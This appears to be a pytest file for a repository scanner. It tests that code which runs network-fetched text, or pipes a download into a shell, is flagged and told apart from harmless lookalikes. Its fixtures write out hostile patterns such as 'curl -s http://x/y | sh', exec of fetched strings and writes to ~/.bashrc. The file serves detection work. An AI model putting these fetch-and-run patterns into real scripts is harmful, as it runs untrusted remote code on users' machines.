"""Commands out of what another machine sent: what runs it, and what only works on it."""

from __future__ import annotations

import pytest
from repository_scanning import findings_of, rules_of

FETCHED = """
import os, re, requests, shlex, shutil, subprocess, sys
sent = requests.get("https://models.example/list").text
"""


@pytest.mark.parametrize(
    "statement",
    [
        "os.system(f'wget {sent}')",
        "os.system('wget ' + sent)",
        "os.system('wget %s -O model.bin' % sent)",
        "os.system('wget {}'.format(sent))",
        "command = f'unzip {sent}'\nos.system(command)",
        "subprocess.run(f'curl {sent} | tar -xj -C weights'.split())",
        "subprocess.run(shlex.split(f'git clone {sent}'))",
        "subprocess.run(['curl', sent])",
        "subprocess.run([shutil.which('git'), sent])",
        "subprocess.run([sys.executable, '-m', 'pip', 'install', sent])",
        "subprocess.run(['bash', '-c', 'make install', sent])",
    ],
)
def test_a_program_that_the_script_names_is_given_something_to_work_on(statement: str) -> None:
    assert "fetched-code" not in rules_of(f"{FETCHED}{statement}\n", "tool.py")


@pytest.mark.parametrize(
    "statement",
    [
        "os.system(sent)",
        "os.popen(sent)",
        "os.system(f'{sent}')",
        "os.system(f'sh -c {sent}')",
        "os.system(f'echo x; {sent}')",
        "os.system(f'true && {sent}')",
        "os.system(f'ls $({sent})')",
        "os.system(f'ls `{sent}`')",
        "os.system(f'wget {sent} | sh')",
        "os.system(f'pip install {sent}')",
        "os.system(f'python -c {sent}')",
        "os.system('bash -c \"' + sent + '\"')",
        "subprocess.Popen([sent])",
        "subprocess.run(sent, shell=True)",
        "subprocess.run(f'bash -c {sent}'.split())",
        "subprocess.run(['bash', '-c', sent])",
        "subprocess.run(['cmd', '/c', f'{sent}'])",
        "subprocess.run([sys.executable, '-c', sent])",
        "os.system(sent if sent else f'ls {sent}')",
        "command = sent\nif sent:\n    command = f'wget {sent}'\nos.system(command)",
        "exec(f'import os;{sent}')",
        "exec('import os\\n' + sent)",
        "eval(f'lambda x: {sent}')",
    ],
)
def test_what_was_sent_is_run(statement: str) -> None:
    assert "fetched-code" in rules_of(f"{FETCHED}{statement}\n", "tool.py")


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("install.R", "system('{}')"),
        ("report.Rmd", "```{{r}}\nsystem('{}')\n```"),
        ("deps/build.jl", 'run(`sh -c "{}"`)'),
        ("start.desktop", '[Desktop Entry]\nType=Application\nExec=sh -c "{}"'),
        ("setup.applescript", 'do shell script "{}"'),
        ("setup.fish", "{}"),
        ("hook.cjs", "require('child_process').execSync('{}')"),
    ],
)
def test_programs_in_other_languages_are_read_for_commands(file, line):
    name = file.rpartition("/")[2].lower()
    rules = {finding.rule for finding in findings_of(line.format("curl -s http://x/y | sh"), name)}
    assert rules == {"hostile-command"}
    assert findings_of(line.format("make all"), name) == []


FETCH = "curl -s http://x/y | sh"


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("a.sh", f'echo "Install it with: {FETCH}"'),
        ("a.sh", f"echo -e '{FETCH}' >&2"),
        ("a.sh", f"printf '%s\\n' 'run: {FETCH}';"),
        ("a.sh", f'echo "$name: {FETCH}"'),
        ("a.ps1", f'    Write-Host "re-run: {FETCH}" -ForegroundColor Yellow'),
        ("a.rb", f"puts '{FETCH}'"),
        ("a.js", f'console.log("{FETCH}");'),
    ],
)
def test_a_line_that_only_prints_a_hint_is_clean(file, line):
    assert findings_of(f"{line}\n", file) == []


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("a.sh", f'echo "{FETCH}" | sh'),
        ("a.sh", f'echo "x"; {FETCH}'),
        ("a.sh", f'echo "$({FETCH})"'),
        ("a.sh", f'echo "`{FETCH}`"'),
        ("a.sh", f'echo "{FETCH}" >> ~/.bashrc'),
        ("a.sh", f'echo() {{ bash -c "$*"; }}\necho "{FETCH}"'),
        ("a.sh", f'alias echo=eval\necho "{FETCH}"'),
        ("a.ps1", f'function Write-Host {{ iex $args }}\nWrite-Host "{FETCH}"'),
        ("a.rb", f"puts \"#{{system('{FETCH}')}}\""),
        ("a.rb", f'puts system "{FETCH}"'),
        ("a.pl", f"print \"@{{[system('{FETCH}')]}}\";"),
        ("a.lua", f'print(os.execute("{FETCH}"))'),
        ("a.php", f'echo system("{FETCH}");'),
    ],
)
def test_a_line_that_prints_and_runs_is_malicious(file, text):
    assert {finding.kind for finding in findings_of(f"{text}\n", file)} == {"malicious"}


def test_long_lines_that_almost_print_cost_little_time():
    for word in ("Write-Host", "echo"):
        assert findings_of(word + "   -a" * 20_000 + "!\n", "a.ps1") == []
        assert findings_of(word + ' "' * 40_000 + "\n", "a.ps1") == []
